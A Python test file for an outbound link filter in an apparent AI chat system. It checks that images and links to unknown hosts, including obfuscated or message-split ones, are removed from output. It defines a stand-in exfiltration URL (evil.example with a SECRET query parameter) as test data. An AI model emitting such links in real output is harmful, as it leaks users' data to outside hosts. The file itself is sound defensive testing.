"""What leaves a run: no image and no link to an unknown host, live, in the log and in replays."""

from __future__ import annotations

from typing import TYPE_CHECKING

from api.events.link_filter import Speech
from graph.events import Piece
from graph.link_filter import Hosts, Outgoing

if TYPE_CHECKING:
    from tests.e2e.person import Person

EVIL = "https://evil.example/x?d=SECRET"


def speech() -> Speech:
    return Speech(Outgoing(Hosts(), "en"))


def test_a_link_does_not_leave_live_nor_when_it_is_read_again(alice: Person) -> None:
    # In the message it stands otherwise: an address that the person wrote may come back.
    link = EVIL.replace("https", "h&#116;tps")
    with alice.chat(f"say ok ![a]({link}) [b]({link}) <img src={link}> end") as turn:
        turn.finish()
    assert "SECRET" not in turn.text
    assert turn.text.startswith("ok [a]")
    assert turn.text.endswith(" end")
    with alice.follow(turn.seen[0]["run_id"]) as again:
        again.finish()
    assert again.text == turn.text


def test_what_the_person_wrote_themselves_may_come_back(alice: Person) -> None:
    with alice.chat("say https://news.example.org/a is it") as turn:
        turn.finish()
    assert turn.text == "https://news.example.org/a is it"


def test_what_is_held_back_comes_before_the_next_event() -> None:
    said = speech()
    events = [*said.piece(Piece("m1", "see [a](")), *said.event({"type": "task_plan"})]
    assert "".join(event.get("text", "") for event in events) == "see [a] ("
    assert events[-1]["type"] == "task_plan"


def test_a_link_can_not_be_made_of_two_messages() -> None:
    said = speech()
    events = [
        *said.piece(Piece("m1", "see [a](")),
        *said.piece(Piece("m2", f"{EVIL})")),
        *said.end(),
    ]
    text = "".join(event["text"] for event in events)
    assert "](" not in text
    assert "SECRET" not in text


def test_titles_and_results_of_steps_and_texts_of_the_graph_are_cleaned_and_data_is_not() -> None:
    said = speech()
    link = f"[a]({EVIL})"
    events = [
        *said.event({"type": "task_plan", "plan_id": "p", "steps": [{"id": "1", "title": link}]}),
        *said.event({"type": "task_step_update", "step_id": "1", "status": "failed", "result": link, "error": link}),
        *said.event({"type": "content", "text": link}),
        *said.event({"type": "tool_call_start", "tool_call_id": "1", "name": "x", "args": {"content": link}}),
    ]
    assert "SECRET" not in str(events[:3])
    assert events[3]["args"] == {"content": link}
